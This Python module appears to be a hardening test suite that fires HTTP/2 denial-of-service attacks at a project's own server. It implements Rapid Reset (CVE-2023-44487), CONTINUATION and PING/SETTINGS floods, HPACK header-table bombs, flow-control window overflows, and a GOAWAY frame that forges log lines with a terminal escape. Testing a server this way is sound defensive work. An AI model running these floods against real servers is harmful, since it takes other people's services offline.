"""Attacks by the frames of HTTP/2."""

import struct
import time
from pathlib import Path

from tests.hostile import http2
from tests.hostile.attacks.messages import again, hello, snapshot, streams
from tests.hostile.attacks.registry import Steps, attack
from tests.hostile.http2 import Connection


@attack
def rapid_reset(path: Path) -> Steps:
    """CVE-2023-44487: a call is opened and cancelled at once, thousands of times a second."""
    connection = None
    while True:
        connection = again(path, connection)
        for start in range(1, 2_000_000, 200):
            burst = [
                http2.open_stream(number) + http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))
                for number in range(start, start + 200, 2)
            ]
            if not connection.send(b"".join(burst)):
                break
            connection.drain()
            yield 100
        yield 0


@attack
def rapid_hello(path: Path) -> Steps:
    """The same, with a Hello in between, so that the call reaches the program."""
    connection = None
    while True:
        connection = again(path, connection)
        for number in range(1, 2_000_000, 2):
            reset = http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))
            if not connection.send(http2.open_stream(number) + http2.data(number, hello()) + reset):
                break
            connection.drain()
            yield 1
        yield 0


@attack
def ping_flood(path: Path) -> Steps:
    """PING without end; their answers are not read."""
    return _flood(path, http2.frame(http2.PING, payload=bytes(8)) * 1000, 1000)


@attack
def settings_flood(path: Path) -> Steps:
    """SETTINGS without end, each of which wants an answer; none is read."""
    return _flood(path, http2.settings((http2.INITIAL_WINDOW_SIZE, 0), (http2.MAX_FRAME_SIZE, 16_384)) * 1000, 1000)


@attack
def goaway_forgery(path: Path) -> Steps:
    """Farewells with words that would forge a line of a log, and clear the terminal that shows it."""
    words = b"\n2026-01-01T00:00:00.000Z INFO handler_service: forged\x1b[2J"
    connection = None
    while True:
        connection = again(path, connection)
        connection.send(http2.frame(http2.GOAWAY, payload=struct.pack(">II", 0, 2) + words))
        connection.drain()
        yield 1


@attack
def priority_flood(path: Path) -> Steps:
    """PRIORITY of streams that are not there."""
    frames = [http2.frame(http2.PRIORITY, 0, number, bytes(5)) for number in range(3, 2003, 2)]
    return _flood(path, b"".join(frames), 1000)


@attack
def empty_data_flood(path: Path) -> Steps:
    """DATA frames without a byte, on a stream that is open."""
    opening = http2.open_stream(1) + http2.data(1, hello())
    return _flood(path, http2.frame(http2.DATA, 0, 1) * 1000, 1000, opening)


def _flood(path: Path, frames: bytes, number: int, opening: bytes = b"") -> Steps:
    connection = None
    while True:
        if connection is None or not connection.alive:
            connection = again(path, connection)
            connection.send(opening)
        yield number if connection.send(frames) else 0


@attack
def huge_headers(path: Path) -> Steps:
    """A call whose headers are larger than any that is allowed, a megabyte at most."""
    connection = None
    for number in streams():
        connection = again(path, connection)
        block = http2.call(http2.METHOD, *((f"x-{i}".encode(), bytes([97]) * 16_000) for i in range(64)))
        parts = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
        sent = connection.send(http2.frame(http2.HEADERS, 0, number, parts[0]))
        for part in parts[1:-1]:
            sent = sent and connection.send(http2.frame(http2.CONTINUATION, 0, number, part))
        connection.send(http2.frame(http2.CONTINUATION, http2.END_HEADERS, number, parts[-1]))
        connection.drain()
        yield 1


@attack
def many_headers(path: Path) -> Steps:
    """A hundred thousand tiny headers in one call."""
    connection = None
    block = http2.call() + http2.header(b"a", b"") * 100_000
    parts = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    for number in streams():
        connection = again(path, connection)
        connection.send(http2.frame(http2.HEADERS, 0, number, parts[0]))
        for part in parts[1:]:
            connection.send(http2.frame(http2.CONTINUATION, 0, number, part))
        connection.drain()
        yield 1


@attack
def continuation_flood(path: Path) -> Steps:
    """CVE-2024-27316 and its kin: a header block that never ends."""
    connection = None
    part = http2.frame(http2.CONTINUATION, 0, 1, http2.header(b"x-fill", bytes([97]) * 8_000))
    empty = http2.frame(http2.CONTINUATION, 0, 1) * 1000
    while True:
        connection = again(path, connection)
        connection.send(http2.frame(http2.HEADERS, 0, 1, http2.call()))
        while connection.send(part + empty):
            yield 1001
        yield 0


@attack
def header_table(path: Path) -> Steps:
    """Headers that are to be kept in the compression table of the connection, which may have at most 4 KiB."""
    connection = None
    size = b"\x3f\xe1\xff\x03"  # a table of 64 KiB + 30, which was never offered
    for number in streams():
        connection = again(path, connection)
        kept = b"".join(b"\x40" + http2.header(f"k{number}-{i}".encode(), bytes([97]) * 60)[1:] for i in range(90))
        connection.send(http2.open_stream(number, http2.call() + kept))
        connection.send(http2.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8)))
        if number % 50 == 1:
            connection.send(http2.open_stream(number + 2, size + http2.call()))
            connection.close()
            connection = None
        else:
            connection.drain()
        yield 1


@attack
def one_byte_headers(path: Path) -> Steps:
    """A thousand headers in a thousand bytes: each is a number in the table that HTTP/2 brings along."""

    def steps() -> Steps:
        connection, number = None, 1
        while True:
            if connection is None or not connection.alive:
                connection, number = again(path, connection), 1
            block = http2.call() + b"\x8f" * (1024 - len(http2.call()))
            connection.send(http2.open_stream(number, block) + http2.data(number, hello()))
            connection.drain()
            number += 2
            yield 1

    return steps()


@attack
def header_bomb(path: Path) -> Steps:
    """A large header is put into the table once, and named hundreds of times in each call after that."""
    while True:
        connection = Connection(path)
        kept = b"\x40" + http2.header(b"bomb", bytes([97]) * 600)[1:]
        connection.send(http2.open_stream(1, http2.call() + kept))
        for number in range(3, 60, 2):
            connection.send(http2.open_stream(number, http2.call() + b"\xbe" * 700))
            connection.drain()
            yield 1
        connection.close()


@attack
def one_byte_pieces(path: Path) -> Steps:
    """A large message in frames of one byte."""
    connection = None
    pieces = b"".join(http2.frame(http2.DATA, 0, 1, b"x") for _ in range(100))
    while True:
        connection = again(path, connection)
        connection.send(http2.open_stream(1) + http2.data(1, hello() + snapshot(1) + struct.pack(">BI", 0, 65_000)))
        while connection.send(pieces):
            connection.drain()
            yield 100
        yield 0


@attack
def window_tricks(path: Path) -> Steps:
    """Streams whose peer may never be sent a byte, and windows that grow beyond what a window may be."""
    opening = http2.PREFACE + http2.settings((http2.INITIAL_WINDOW_SIZE, 0))
    while True:
        connection = Connection(path, hello=opening)
        for number in (1, 3, 5, 7):
            connection.send(http2.open_stream(number) + http2.data(number, hello(f"enemy-{number}") + snapshot(number)))
            yield 1
        for sequence in range(8, 40):
            if not connection.send(http2.data(7, snapshot(sequence))):
                break
        time.sleep(0.05)
        grow = struct.pack(">I", 0x7FFFFFFF)
        connection.send(http2.frame(http2.WINDOW_UPDATE, 0, 7, struct.pack(">I", 1)) * 10)
        connection.send(
            http2.frame(http2.WINDOW_UPDATE, 0, 0, grow) * 2 + http2.frame(http2.WINDOW_UPDATE, 0, 7, grow) * 2
        )
        connection.drain()
        connection.close()
        yield 1
